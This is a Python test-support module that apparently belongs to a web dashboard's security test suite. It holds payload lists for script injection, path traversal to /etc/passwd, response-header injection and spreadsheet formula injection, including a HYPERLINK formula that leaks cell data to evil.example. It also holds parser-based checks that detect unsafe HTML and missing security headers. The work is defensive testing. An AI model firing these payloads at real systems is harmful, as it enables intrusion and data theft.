"""Attack payloads and the checks that judge a response, shared by tests/test_security.py and
benchmarks/security_scan.py (which runs the larger matrix and records the counts).

An HTML answer is judged by parsing it (not by searching text), so an escaped payload inside a quoted
attribute is not a false alarm and a real tag or event handler is never missed.
"""

from __future__ import annotations

from html.parser import HTMLParser
from typing import Any

# Script injection in the contexts a reflected value can land in: text, quoted attributes, URLs, markup
# that re-parses (math/style), template syntax, an already percent-encoded payload.
XSS = [
    "<script>alert(1)</script>",
    '"><svg onload=alert(1)>',
    "'><img src=x onerror=alert(1)>",
    "</title><script>alert(1)</script>",
    "javascript:alert(1)",
    '" autofocus onfocus="alert(1)',
]
XSS_MORE = [
    "' onmouseover='alert(1)",
    "<ScRiPt>alert(1)</sCrIpT>",
    '<iframe srcdoc="<script>alert(1)</script>">',
    '<a href="javascript:alert(1)">x</a>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "%3Cscript%3Ealert(1)%3C%2Fscript%3E",
    "{{7*7}}<b>{% raw %}",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content=0;url=//evil.example>",
    "\u003cimg src=x onerror=alert(1)\u003e",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<details open ontoggle=alert(1)>",
    "NL<script>alert(1)</script>",
    "cobalt\"'><body onload=alert(1)>",
]

# Names that would leave the served folders if joined to a path naively; %2f and %5c are / and \.
TRAVERSAL = [
    "../../../../etc/passwd",
    "..%2f..%2f..%2f..%2fetc%2fpasswd",
    "..%2F..%2Fsrc%2Fgrondstof%2Fweb%2Fapp.py",
    "%2e%2e/%2e%2e/%2e%2e/etc/passwd",
    "%2e%2e%2f%2e%2e%2fapp.py",
    "..%5c..%5capp.py",
    "....//....//etc/passwd",
    "..",
    "%2e%2e",
    "/etc/passwd",
    "%00../../etc/passwd",
    "..%252f..%252fetc%252fpasswd",
]
# Text that must never be served: a system file and this package's own source (markers no page carries:
# the dashboard itself speaks of "imports").
SECRETS = ("root:x:0:0", "def create_app(", "from grondstof", "from __future__ import")

# Text that would split or smuggle a response header if it reached one unchanged.
HEADER_INJECTION = [
    "NL\r\n",
    "NL\r\nX-Injected: 1",
    "NL\nSet-Cookie: a=b",
    "NL\r",
    "NL\x00",
    "NL\t",
    "NL\x85",
    "Tu\u0308rkiye",
    "T\u00fcrkiye",
    "\u4e2d\u56fd",
    'NL"; filename="evil.exe',
]

# Cells a spreadsheet would run as a formula (OWASP CSV injection), with the full-width variants.
FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\uff1d1+1",
]
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")

SECURITY_HEADERS = ("content-security-policy", "x-content-type-options", "referrer-policy", "x-frame-options")
URL_ATTRIBUTES = ("href", "src", "action", "formaction", "data", "srcdoc", "xlink:href")
FORBIDDEN_TAGS = ("iframe", "object", "embed", "base", "frame", "applet")


class _Inspector(HTMLParser):
    def __init__(self, styles_allowed: bool) -> None:
        super().__init__(convert_charrefs=True)
        self.findings: list[str] = []
        self.styles_allowed = styles_allowed

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        names = {name: (value or "") for name, value in attrs}
        if tag in FORBIDDEN_TAGS:
            self.findings.append(f"<{tag}> element")
        if tag == "meta" and names.get("http-equiv", "").lower() == "refresh":
            self.findings.append("<meta http-equiv=refresh>")
        for name, value in names.items():
            if name.startswith("on"):
                self.findings.append(f"event handler {name}= on <{tag}>")
            if name in URL_ATTRIBUTES and value.strip().lower().replace("\t", "").startswith(
                ("javascript:", "vbscript:", "data:text/html")
            ):
                self.findings.append(f"{name}={value[:40]!r} on <{tag}>")
            if name == "style" and not self.styles_allowed:
                self.findings.append(f"style attribute on <{tag}> (the CSP blocks it)")
        if tag == "script":
            source = names.get("src", "")
            if not source:
                self.findings.append("inline <script>")
            elif not source.startswith("/"):
                self.findings.append(f"script from {source!r}")
        if tag == "style" and not self.styles_allowed:
            self.findings.append("inline <style> (the CSP blocks it)")


def html_findings(text: str, styles_allowed: bool = False) -> list[str]:
    """What in an HTML page could run script or load from elsewhere: inline scripts, event handlers,
    javascript: URLs, frames, <base>, refresh, and (unless ``styles_allowed``: the HTML report's own policy
    allows them) inline styles the page's CSP would block. Empty for a safe page."""
    inspector = _Inspector(styles_allowed)
    inspector.feed(text)
    inspector.close()
    return inspector.findings


def reflected(payload: str, body: str) -> bool:
    """True when a payload with markup characters appears unescaped in an HTML body."""
    return any(c in payload for c in "<>\"'") and payload in body


def response_findings(response: Any, payload: str | None = None) -> list[str]:
    """Findings on one response: a server error, a missing security header, unsafe HTML, a reflected
    payload, a sniffable content type."""
    findings = []
    if response.status_code >= 500:
        findings.append(f"server error {response.status_code}")
    for header in SECURITY_HEADERS:
        if header not in response.headers:
            findings.append(f"no {header} header")
    content_type = response.headers.get("content-type", "")
    if content_type.startswith("text/html"):
        policy = response.headers.get("content-security-policy", "")
        findings.extend(html_findings(response.text, styles_allowed="style-src 'unsafe-inline'" in policy))
        if payload is not None and reflected(payload, response.text):
            findings.append("payload reflected unescaped")
    elif not content_type:
        findings.append("no content type")
    return findings


def _is_number(text: str) -> bool:
    if text != text.strip():  # float() ignores surrounding white space; a spreadsheet does not
        return False
    try:
        float(text)
    except ValueError:
        return False
    return True


def formula_cells(rows: list[list[Any]]) -> list[str]:
    """Text cells of a table that a spreadsheet would read as a formula; a plain number such as ``-1.5``
    (every CSV cell is text) is a number, not a formula."""
    return [
        c for row in rows for c in row if isinstance(c, str) and c.startswith(FORMULA_STARTS) and not _is_number(c)
    ]
